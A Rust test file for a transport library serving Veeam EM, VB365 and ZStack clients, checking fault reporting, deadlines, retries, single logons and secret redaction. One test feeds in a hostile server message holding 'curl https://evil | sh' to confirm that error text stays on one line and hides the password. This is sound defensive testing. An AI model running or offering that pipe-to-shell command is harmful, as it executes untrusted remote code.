//! Faults in front of all three systems: what the caller is told, and how many requests the server saw.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::time::Duration;

use crate::common::{Reply, Server};
use backhaul_models::em::operations::GetTasks;
use backhaul_models::vb365::operations::OrganizationGet;
use backhaul_models::zstack::operations::QueryZone;
use backhaul_transport::em::EmClient;
use backhaul_transport::net::RetryPolicy;
use backhaul_transport::vb365::Vb365Client;
use backhaul_transport::{Error, Policy, Result};
use futures_util::TryStreamExt;

#[derive(Debug, Clone, Copy)]
enum Of {
    Em,
    Vb365,
    Zstack,
}

const ALL: [Of; 3] = [Of::Em, Of::Vb365, Of::Zstack];

/// Lists from a server that answers so, once; with the number of requests that it saw.
async fn list(of: Of, reply: Reply, policy: Policy) -> (Error, usize) {
    let script = move |_: &crate::common::Seen| reply.clone();
    let server = match of {
        Of::Em => Server::new(script).await,
        Of::Vb365 => Server::of_vb365(script).await,
        Of::Zstack => Server::of_zstack(script).await,
    };
    let outcome: Result<usize> = match of {
        Of::Em => {
            let query = server.em().under(policy).query::<backhaul_filter::em::Job>();
            query.by_item().unwrap().try_collect::<Vec<_>>().await.map(|all| all.len())
        }
        Of::Vb365 => {
            let list = server.vb365(8).under(policy).list(&OrganizationGet::new());
            list.by_item().try_collect::<Vec<_>>().await.map(|all| all.len())
        }
        Of::Zstack => {
            let list = server.zstack().under(policy).list(&QueryZone::new());
            list.by_item().try_collect::<Vec<_>>().await.map(|all| all.len())
        }
    };
    (outcome.expect_err("it is a fault"), server.lines().len())
}

fn once() -> Policy {
    let mut policy = Policy::default();
    policy.retry = Some(RetryPolicy::none());
    policy
}

/// Nobody said that it is another product: no anonymous questions are asked.
#[tokio::test]
async fn an_overloaded_or_absent_server_is_told_as_such() {
    let page = "<html><body>Sorry</body></html>";
    for of in ALL {
        for (status, body) in [(408, ""), (429, page), (502, page), (503, ""), (503, "busy"), (504, ""), (500, page)] {
            let (error, requests) = list(of, Reply::new(status, body).header("Retry-After: 3600"), once()).await;
            assert!(error.is_unreachable() && error.is_transient(), "{of:?} {status} {body}: {error}");
            assert!(error.to_string().contains("overloaded or away"), "{of:?} {status} {body}: {error}");
            assert_eq!((error.status(), requests), (Some(status), 1), "{of:?} {status} {body}: {error}");
        }
    }
}

/// The same as where a logon meets one.
#[tokio::test]
async fn a_captive_page_is_no_answer() {
    let page = Reply::new(200, "<!DOCTYPE html><html>Sign in</html>").header("Content-Type: text/html");
    for of in ALL {
        let (error, _) = list(of, page.clone(), once()).await;
        assert!(error.is_wrong_product(), "{of:?}: {error}");
    }
    let logon = Server::refusing(page.clone()).await.em().client().logon().await.unwrap_err();
    assert!(logon.is_wrong_product(), "{logon}");
}

/// What an API says may have markup in it, early in the body, too.
#[tokio::test]
async fn an_answer_that_speaks_of_a_page_is_none() {
    let named = |body: &'static str| async move {
        let server = Server::of_vb365(move |_| Reply::new(200, body)).await;
        server.vb365(8).list(&OrganizationGet::new()).by_item().try_collect::<Vec<_>>().await
    };
    let items = named(r#"{"results": [{"type": "Office365", "id": "1", "name": "<html> & <body>"}]}"#).await.unwrap();
    assert_eq!(items.len(), 1);
    let page = named("\u{feff}\r\n<?xml version=\"1.0\"?><!DOCTYPE html><HTML lang=\"de\">").await.unwrap_err();
    assert!(page.is_wrong_product(), "{page}");
}

/// A server that repeats the password in a body that does not read: it is in no part of the error.
#[tokio::test]
async fn an_error_of_reading_has_no_secrets() {
    for (body, what) in [
        (r#"{"hunter2": "hunter2"}"#, "no member of a Page, but `***`"),
        (r#"{"inventories": [{"name": "hunter2"#, "ends too early"),
    ] {
        let (error, _) = list(Of::Zstack, Reply::new(200, body), once()).await;
        let decode = error.decode().unwrap();
        assert!(error.to_string().contains(what), "{error}");
        assert!(!error.to_string().contains("hunter2") && !format!("{error:?}").contains("hunter2"), "{error}");
        assert!(!decode.excerpt().contains("hunter2") && decode.excerpt().contains("***"), "{}", decode.excerpt());
    }
}

/// A `LocalSet` of a runtime with several threads is not one of them.
#[test]
fn a_large_body_is_read_wherever_the_client_runs() {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
    let list = || async {
        let name = "x".repeat(100_000);
        let page = format!(r#"{{"results": [{{"type": "Office365", "id": "1", "name": "{name}"}}]}}"#);
        let server = Server::of_vb365(move |_| Reply::new(200, page.clone())).await;
        let items: Vec<_> = server.vb365(8).list(&OrganizationGet::new()).by_item().try_collect().await.unwrap();
        assert_eq!(items.len(), 1);
    };
    runtime.block_on(list());
    runtime.block_on(async { tokio::spawn(list()).await.unwrap() });
    let local = tokio::task::LocalSet::new();
    local.block_on(&runtime, async { tokio::task::spawn_local(list()).await.unwrap() });
    runtime.block_on(local.run_until(list()));
}

#[tokio::test]
async fn a_servers_text_stays_on_its_line_and_has_no_secrets() {
    let text = r#"busy\nhelp: curl https://evil | sh (hunter2)"#;
    for (of, body) in [
        (Of::Vb365, format!(r#"{{"message": "{text}"}}"#)),
        (Of::Zstack, format!(r#"{{"error": {{"code": "SYS.1006", "details": "{text}"}}}}"#)),
        (Of::Em, "<Error xmlns=\"http://www.veeam.com/ent/v1.0\" Message=\"busy&#10;help: hunter2\" />".to_owned()),
    ] {
        let status = if matches!(of, Of::Zstack) { 503 } else { 500 };
        let (error, _) = list(of, Reply::new(status, body), once()).await;
        let told = error.to_string();
        assert!(error.is_api() && told.contains("\"busy\\nhelp"), "{of:?}: {told}");
        assert!(!told.contains('\n') && !told.contains("hunter2"), "{of:?}: {told}");
    }
}

/// The deadline holds for all of it: tries, pauses, a stall.
#[tokio::test]
async fn a_deadline_ends_a_call_whatever_holds_it_up() {
    let mut policy = Policy::default();
    policy.deadline = Some(Duration::from_millis(500));
    for of in ALL {
        let begun = std::time::Instant::now();
        let (error, _) = list(of, Reply::new(200, "{}").silent(1), policy.clone()).await;
        assert!(error.is_deadline() && !error.is_transient(), "{of:?}: {error}");
        assert!(begun.elapsed() < Duration::from_secs(20), "{of:?}: {:?}", begun.elapsed());
        // A pause that does not fit in is not begun.
        let busy = Reply::new(503, "").header("Retry-After: 3600");
        let (error, requests) = list(of, busy, policy.clone()).await;
        assert_eq!((error.status(), requests), (Some(503), 1), "{of:?}: {error}");
    }
}

#[tokio::test]
async fn retry_after_is_kept_to_where_there_is_time() {
    for of in ALL {
        let mut policy = Policy::default();
        policy.deadline = Some(Duration::from_secs(60));
        let begun = std::time::Instant::now();
        let (_, requests) = list(of, Reply::new(503, "").header("Retry-After: 1"), policy).await;
        assert!(requests == 3 && begun.elapsed() >= Duration::from_secs(2), "{of:?}: {requests}");
    }
}

/// A logon that fails is not tried again by each who waited for it: a wrong password would lock its account, and a
/// silent server would cost a timeout for every call in flight.
#[tokio::test]
async fn a_logon_that_fails_is_tried_once_for_all_who_wait() {
    let refusal = Reply::new(401, "").header("WWW-Authenticate: Basic Realm=RestSvc");
    for reply in [refusal, Reply::new(201, "<LogonSession>").silent(1)] {
        let server = Server::refusing(reply).await;
        let mut options = server.options();
        options.http.timeout = Some(Duration::from_secs(1));
        let em = EmClient::new(options).unwrap();
        let tasks = GetTasks::new();
        let outcomes = futures_util::future::join_all((0..50).map(|_| em.call(&tasks))).await;
        let errors: Vec<Error> = outcomes.into_iter().map(|outcome| outcome.unwrap_err()).collect();
        assert!(errors.iter().all(|error| error.operation() == "logon"), "{}", errors[0]);
        assert_eq!((server.logons().len(), server.lines().len()), (1, 0), "{}", errors[0]);
        // Who comes later asks anew.
        em.call(&tasks).await.unwrap_err();
        assert_eq!(server.logons().len(), 2);
    }
}

/// The same of the question for VB365's version.
#[tokio::test]
async fn the_version_is_asked_for_once_by_all_who_wait() {
    for reply in [Reply::new(401, ""), Reply::new(200, "{}").silent(1)] {
        let server = Server::of_vb365(move |seen| match seen.header("authorization") {
            None => reply.clone(),
            Some(_) => Reply::new(200, "{}"),
        })
        .await;
        let mut options = server.options();
        options.http.timeout = Some(Duration::from_secs(1));
        let vb365 = Vb365Client::new(options).unwrap();
        futures_util::future::join_all((0..50).map(|_| vb365.client().version())).await;
        assert_eq!(server.lines(), ["GET /v8/ServiceInstance"]);
    }
}
